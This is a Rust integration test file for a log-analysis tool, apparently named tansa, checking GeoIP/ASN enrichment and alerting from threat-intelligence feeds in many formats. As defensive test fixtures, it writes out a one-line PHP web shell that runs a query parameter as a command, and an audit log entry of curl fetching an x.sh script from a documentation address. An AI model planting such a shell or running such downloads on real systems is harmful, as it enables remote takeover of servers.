//! Enrichment and threat intelligence from the command line: GeoIP/ASN fields on events and in
//! the store (MaxMind's test databases), indicator feeds of every format raising alerts, bad
//! feeds reported without losing the good ones.

mod common;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use common::{json_lines, succeed, tansa};

fn tmp(name: &str) -> PathBuf {
    common::fresh_dir("intel", name)
}

fn mmdb(name: &str) -> PathBuf {
    let base = std::env::var_os("TANSA_CONFORMANCE")
        .map(PathBuf::from)
        .unwrap_or_else(|| common::root().join("../shared/conformance"));
    let p = base.join("maxmind-test-db/test-data").join(name);
    assert!(
        p.is_file(),
        "{} not found: set TANSA_CONFORMANCE",
        p.display()
    );
    p
}

const AUTH: &str = "\
Mar 14 09:00:01 web01 sshd[100]: Failed password for root from 81.2.69.142 port 50000 ssh2
Mar 14 09:00:02 web01 sshd[101]: Accepted password for deploy from 2.125.160.216 port 50001 ssh2
Mar 14 09:00:03 web01 sshd[102]: Failed password for admin from 1.0.0.1 port 50002 ssh2
Mar 14 09:00:04 web01 sshd[103]: Accepted publickey for ops from 10.0.0.7 port 50003 ssh2
Mar 14 09:00:05 web01 sshd[104]: Failed password for root from 89.160.20.130 port 50004 ssh2
";

#[test]
fn geoip_and_asn_fields_reach_events_and_the_store() {
    let d = tmp("geo");
    let log = d.join("auth.log");
    std::fs::write(&log, AUTH).unwrap();
    let geo = |c: &mut std::process::Command| {
        c.arg("--geoip")
            .arg(mmdb("GeoIP2-City-Test.mmdb"))
            .arg("--geoip")
            .arg(mmdb("GeoLite2-ASN-Test.mmdb"));
    };
    let mut cmd = tansa();
    cmd.args(["parse", "--format", "json", "--now", "2026-06-01T00:00:00Z"]);
    geo(&mut cmd);
    cmd.arg(&log);
    let evs = json_lines(&succeed(&mut cmd).stdout);
    let by_ip = |ip: &str| {
        evs.iter()
            .find(|e| e["source"]["ip"] == ip)
            .unwrap_or_else(|| panic!("no event from {ip}"))
    };
    let london = &by_ip("81.2.69.142")["source"];
    assert_eq!(london["geo"]["country_iso_code"], "GB");
    assert_eq!(london["geo"]["city_name"], "London");
    assert!(london["geo"]["location"]["lat"].as_f64().is_some());
    let google = &by_ip("1.0.0.1")["source"];
    assert_eq!(google["as"]["number"], 15169);
    assert_eq!(google["as"]["organization"]["name"], "Google Inc.");
    let sweden = &by_ip("89.160.20.130")["source"];
    assert_eq!(sweden["geo"]["country_iso_code"], "SE");
    assert_eq!(sweden["as"]["number"], 29518);
    // private addresses are labelled, not looked up
    let private = &by_ip("10.0.0.7")["source"];
    assert_eq!(private["geo"]["name"], "private");
    assert!(private.get("as").is_none());

    // stored: columns for the country and AS, one row per address in `addresses`
    let data = d.join("data");
    let mut cmd = tansa();
    cmd.arg("--data")
        .arg(&data)
        .args(["analyze", "--quiet", "--now", "2026-06-01T00:00:00Z"]);
    geo(&mut cmd);
    cmd.arg(&log);
    succeed(&mut cmd);
    let sql = |q: &str| {
        let out = succeed(
            tansa()
                .arg("--data")
                .arg(&data)
                .args(["--format", "json", "sql", q]),
        );
        json_lines(&out.stdout)
    };
    let rows = sql(
        "SELECT source_ip, source_country, source_asn, source_as_org FROM events \
         WHERE source_ip IS NOT NULL ORDER BY source_ip",
    );
    let row = |ip: &str| rows.iter().find(|r| r["source_ip"] == ip).unwrap().clone();
    assert_eq!(row("89.160.20.130")["source_country"], "SE");
    assert_eq!(row("89.160.20.130")["source_as_org"], "Bredband2 AB");
    assert_eq!(row("1.0.0.1")["source_asn"], 15169);
    let a = sql("SELECT ip, scope, country, city, asn, events FROM addresses ORDER BY ip");
    assert_eq!(a.len(), 5, "{a:?}");
    let london = a.iter().find(|r| r["ip"] == "81.2.69.142").unwrap();
    assert_eq!(london["city"], "London");
    assert_eq!(london["events"], 1);
    assert!(a
        .iter()
        .any(|r| r["ip"] == "10.0.0.7" && r["scope"] == "private"));
    // search by the ECS names of the new columns
    let out = succeed(tansa().arg("--data").arg(&data).args([
        "--format",
        "json",
        "search",
        "source.geo.country_iso_code:GB",
    ]));
    assert_eq!(json_lines(&out.stdout).len(), 2);
    // an AS as a trace entity: its addresses' activity
    let out = succeed(
        tansa()
            .arg("--data")
            .arg(&data)
            .args(["--format", "json", "trace", "AS29518"]),
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("89.160.20.130"), "{text}");
    assert!(!text.contains("81.2.69.142"), "{text}");
    let _ = std::fs::remove_dir_all(&d);
}

#[test]
fn a_broken_geoip_file_is_an_error_naming_it() {
    let d = tmp("badgeo");
    let bad = d.join("GeoLite2-City.mmdb");
    std::fs::write(&bad, "not a database").unwrap();
    refused(&["--geoip"], &bad, &["GeoLite2-City.mmdb", "MaxMind DB"]);
    let _ = std::fs::remove_dir_all(&d);
}

/// `tansa analyze --no-store FLAG FILE examples/logs` exits 1 with every one of `words` on
/// standard error.
fn refused(flag: &[&str], file: &Path, words: &[&str]) {
    let out = tansa()
        .args(["analyze", "--no-store"])
        .args(flag)
        .arg(file)
        .arg("examples/logs")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    for w in words {
        assert!(err.contains(w), "{w}: {err}");
    }
}

/// One feed of every format, each naming something the bundled sample contains.
fn write_feeds(d: &Path) -> Vec<String> {
    let w = |name: &str, text: &str| {
        let p = d.join(name);
        std::fs::write(&p, text).unwrap();
        p.display().to_string()
    };
    let plain = w(
        "blocklist.txt",
        "# attackers seen elsewhere\n45.141.87.0/24   # the scanning /24\nnot-an-indicator!\n",
    );
    let csv = w(
        "urlhaus.csv",
        "# abuse.ch URLhaus export\n# id,dateadded,url,url_status,threat,tags\n\
         \"1\",\"2026-03-01\",\"http://203.0.113.200/x.sh\",\"online\",\"malware_download\",\"sh,mirai\"\n",
    );
    let drop = w(
        "drop.txt",
        "; Spamhaus DROP List\n198.51.100.0/24 ; SBL000001\n",
    );
    let tor = w(
        "exit-addresses",
        "ExitNode 0011BD2485AD45D984EC4159C88FC066E5E3300E\nPublished 2026-03-13 12:00:00\n\
         LastStatus 2026-03-14 13:00:00\nExitAddress 192.0.2.50 2026-03-14 13:03:54\n",
    );
    let stix = w(
        "stix.json",
        r#"{"type":"bundle","id":"bundle--1","objects":[
          {"type":"indicator","spec_version":"2.1","id":"indicator--1","pattern_type":"stix",
           "pattern":"[domain-name:value = 'sqlmap.org']","confidence":70,
           "indicator_types":["malicious-activity"],"valid_from":"2026-01-01T00:00:00Z"},
          {"type":"indicator","spec_version":"2.1","id":"indicator--2","pattern_type":"stix",
           "pattern":"[ipv4-addr:value = '9.9.9.9' AND network-traffic:dst_port = 22]",
           "valid_from":"2026-01-01T00:00:00Z"}]}"#,
    );
    let misp = d.join("misp");
    std::fs::create_dir_all(&misp).unwrap();
    std::fs::write(
        misp.join("manifest.json"),
        r#"{"5f1c7c1a-0000-4000-8000-000000000001":{"info":"SSH brute force","Orgc":{"name":"CERT"}}}"#,
    )
    .unwrap();
    std::fs::write(
        misp.join("5f1c7c1a-0000-4000-8000-000000000001.json"),
        r#"{"Event":{"info":"SSH brute force","Tag":[{"name":"tlp:white"}],"Attribute":[
          {"type":"ip-src","value":"203.0.113.77","to_ids":true,"comment":"brute forcer"},
          {"type":"ip-src","value":"192.0.2.10","to_ids":false},
          {"type":"malware-sample","value":"x.bin|0123","to_ids":true}]}}"#,
    )
    .unwrap();
    let otx = w(
        "otx.json",
        r#"{"name":"Web scanners","tags":["scanner"],"indicators":[
          {"indicator":"198.51.100.23","type":"IPv4","title":"sqlmap scanner"},
          {"indicator":"203.0.113.10","type":"IPv4","expiration":"2020-01-01T00:00:00"},
          {"indicator":"foo@example.com","type":"email"}]}"#,
    );
    vec![
        plain,
        format!("{csv}#name=urlhaus"),
        drop,
        tor,
        stix,
        misp.display().to_string(),
        otx,
    ]
}

/// `tansa analyze` of the bundled sample with the feeds of [`write_feeds`], JSON out.
fn analyze_with_feeds(d: &Path) -> std::process::Output {
    let mut cmd = tansa();
    cmd.args([
        "--format",
        "json",
        "analyze",
        "--no-store",
        "--timezone",
        "Asia/Tokyo",
        "--no-geoip",
    ]);
    for f in write_feeds(d) {
        cmd.arg("--intel").arg(f);
    }
    cmd.arg("examples/logs");
    succeed(&mut cmd)
}

#[test]
fn indicator_feeds_of_every_format_raise_alerts() {
    let d = tmp("feeds");
    let out = analyze_with_feeds(&d);
    let err = String::from_utf8_lossy(&out.stderr);
    // entries a feed cannot explain are reported, with where they are
    assert!(err.contains("blocklist") && err.contains("line 3"), "{err}");
    assert!(err.contains("AND"), "{err}");
    assert!(err.contains("to_ids is false"), "{err}");
    let lines = json_lines(&out.stdout);
    let alerts: Vec<_> = lines
        .iter()
        .filter(|l| {
            l["rule"]["id"]
                .as_str()
                .is_some_and(|r| r.starts_with("intel:"))
        })
        .collect();
    let hit = |feed: &str, ind: &str| {
        alerts
            .iter()
            .any(|a| a["threat"]["feed"]["name"] == feed && a["threat"]["indicator"]["name"] == ind)
    };
    assert!(hit("blocklist", "45.141.87.0/24"), "{alerts:#?}");
    assert!(
        hit("urlhaus", "http://203.0.113.200/x.sh"),
        "a URL in a command line"
    );
    assert!(hit("drop", "198.51.100.0/24"));
    assert!(hit("exit-addresses", "192.0.2.50"));
    assert!(hit("stix", "sqlmap.org"), "a domain in a User-Agent");
    assert!(hit("misp", "203.0.113.77"));
    assert!(hit("otx", "198.51.100.23"));
    // the first alert of a feed
    let first = |feed: &str| {
        alerts
            .iter()
            .find(|a| a["threat"]["feed"]["name"] == feed)
            .copied()
            .unwrap()
    };
    // the alert says what the feed says of the indicator
    let threat = |feed: &str| first(feed)["threat"].clone();
    assert_eq!(threat("stix")["indicator"]["confidence"], 70);
    assert_eq!(threat("stix")["indicator"]["type"], "domain");
    assert_eq!(
        threat("urlhaus")["tags"],
        serde_json::json!(["sh", "mirai", "malware_download"])
    );
    assert_eq!(threat("urlhaus")["indicator"]["type"], "url");
    assert_eq!(threat("misp")["indicator"]["description"], "brute forcer");
    assert_eq!(threat("drop")["indicator"]["description"], "SBL000001");
    // not for detection, expired, or not an indicator: no alert
    assert!(!hit("misp", "192.0.2.10"));
    assert!(!hit("otx", "203.0.113.10"));
    // TOR lists describe an address (low); blocklists accuse it (high)
    let sev = |feed: &str| first(feed)["severity"].clone();
    assert_eq!(sev("exit-addresses"), "low");
    assert_eq!(sev("blocklist"), "high");
    // one alert per indicator while the activity goes on, not one per event
    let per_block = alerts
        .iter()
        .filter(|a| a["threat"]["feed"]["name"] == "blocklist")
        .count();
    assert!(per_block <= 3, "{per_block} alerts for one /24");
    let _ = std::fs::remove_dir_all(&d);
}

#[test]
fn a_feed_that_cannot_be_read_is_an_error_naming_it() {
    let d = tmp("badfeed");
    let bad = d.join("broken.json");
    std::fs::write(&bad, "{\"type\": \"bundle\", ").unwrap();
    refused(&["--intel"], &bad, &["broken.json", "not JSON"]);
    let out = tansa()
        .args([
            "analyze",
            "--no-store",
            "--intel",
            "x.txt#colour=red",
            "examples/logs",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("unknown option `colour`"));
    let _ = std::fs::remove_dir_all(&d);
}

#[test]
fn hunt_runs_new_indicators_over_the_store() {
    let d = tmp("hunt");
    let data = d.join("data");
    succeed(tansa().arg("--data").arg(&data).args([
        "analyze",
        "--quiet",
        "--timezone",
        "Asia/Tokyo",
        "--no-geoip",
        "examples/logs",
    ]));
    let mut cmd = tansa();
    cmd.arg("--data")
        .arg(&data)
        .args(["--format", "json", "hunt"]);
    for f in write_feeds(&d) {
        cmd.arg("--intel").arg(f);
    }
    let hits = json_lines(&succeed(&mut cmd).stdout);
    let hit = |ind: &str| {
        hits.iter()
            .find(|h| h["threat"]["indicator"]["name"] == ind)
            .unwrap_or_else(|| panic!("{ind} not hunted: {hits:#?}"))
    };
    let block = hit("45.141.87.0/24");
    assert_eq!(block["threat"]["feed"]["name"], "blocklist");
    assert!(block["events"].as_u64().unwrap() > 400, "{block}");
    let hosts = block["hosts"].as_array().unwrap();
    assert!(hosts.iter().any(|h| h == "web01"), "{block}");
    assert!(block["first_seen"].as_str().unwrap() < block["last_seen"].as_str().unwrap());
    let url = hit("http://203.0.113.200/x.sh");
    assert!(url["fields"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f == "process.command_line"));
    hit("sqlmap.org");
    hit("203.0.113.77");
    // expired before the events happened
    assert!(!hits
        .iter()
        .any(|h| h["threat"]["indicator"]["name"] == "203.0.113.10"));
    // the same answer as live matching for every indicator both see
    let live: BTreeSet<String> = json_lines(&analyze_with_feeds(&d).stdout)
        .iter()
        .filter_map(|a| a["threat"]["indicator"]["name"].as_str().map(str::to_owned))
        .collect();
    let hunted: BTreeSet<String> = hits
        .iter()
        .filter_map(|h| h["threat"]["indicator"]["name"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(live, hunted);
    // text output names the count
    let mut cmd = tansa();
    cmd.arg("--data").arg(&data).arg("hunt");
    for f in write_feeds(&d) {
        cmd.arg("--intel").arg(f);
    }
    let text = String::from_utf8(succeed(&mut cmd).stdout).unwrap();
    assert!(text.starts_with(&format!("{} of ", hunted.len())), "{text}");
    let _ = std::fs::remove_dir_all(&d);
}

/// File hashes from file integrity monitoring (`tansa fim`), Suricata's fileinfo and IPv6
/// addresses inside command lines meet hash and network indicators.
#[test]
fn hash_indicators_meet_fim_and_file_events_and_ipv6_networks_meet_command_lines() {
    let d = tmp("hashes");
    let data = d.join("data");
    let www = d.join("www");
    std::fs::create_dir_all(&www).unwrap();
    std::fs::write(www.join("index.php"), "<?php echo 'hello';\n").unwrap();
    let shell = b"<?php system($_GET['c']);\n";
    std::fs::write(www.join("shell.php"), shell).unwrap();
    let sha = String::from_utf8(
        succeed(std::process::Command::new("sha256sum").arg(www.join("shell.php"))).stdout,
    )
    .unwrap()
    .split_whitespace()
    .next()
    .unwrap()
    .to_owned();
    succeed(
        tansa()
            .arg("--data")
            .arg(&data)
            .args(["fim", "baseline"])
            .arg(&www),
    );
    let eve = d.join("eve.json");
    std::fs::write(
        &eve,
        "{\"timestamp\":\"2026-03-14T10:00:00.000000+0000\",\"flow_id\":7,\"event_type\":\"fileinfo\",\
         \"src_ip\":\"192.0.2.80\",\"dest_ip\":\"10.0.0.5\",\"fileinfo\":{\"filename\":\"/x.bin\",\
         \"md5\":\"0123456789abcdef0123456789abcdef\",\"size\":10}}\n",
    )
    .unwrap();
    let audit = d.join("audit.log");
    std::fs::write(
        &audit,
        "type=SYSCALL msg=audit(1773446401.120:501): arch=c000003e syscall=59 success=yes exit=0 \
         ppid=4100 pid=4242 auid=1001 uid=0 ses=7 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"\n\
         type=EXECVE msg=audit(1773446401.120:501): argc=3 a0=\"curl\" a1=\"-g\" a2=\"http://[2001:db8:bad::7]/x.sh\"\n\
         type=EOE msg=audit(1773446401.120:501):\n",
    )
    .unwrap();
    let feed = d.join("hashes.txt");
    std::fs::write(
        &feed,
        format!(
            "{}\n0123456789ABCDEF0123456789ABCDEF\n2001:db8:bad::/48\n",
            sha.to_uppercase()
        ),
    )
    .unwrap();
    let mut cmd = tansa();
    cmd.args([
        "--format",
        "json",
        "analyze",
        "--no-store",
        "--no-geoip",
        "--intel",
    ])
    .arg(&feed)
    .arg(data.join("fim"))
    .arg(&eve)
    .arg(&audit);
    let out = succeed(&mut cmd);
    let hit: BTreeSet<String> = json_lines(&out.stdout)
        .iter()
        .filter(|a| a["threat"]["feed"]["name"] == "hashes")
        .map(|a| {
            a["threat"]["indicator"]["name"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    let want: BTreeSet<String> = [
        sha.clone(),
        "0123456789abcdef0123456789abcdef".into(),
        "2001:db8:bad::/48".into(),
    ]
    .into();
    assert_eq!(hit, want, "{}", String::from_utf8_lossy(&out.stdout));
    let _ = std::fs::remove_dir_all(&d);
}
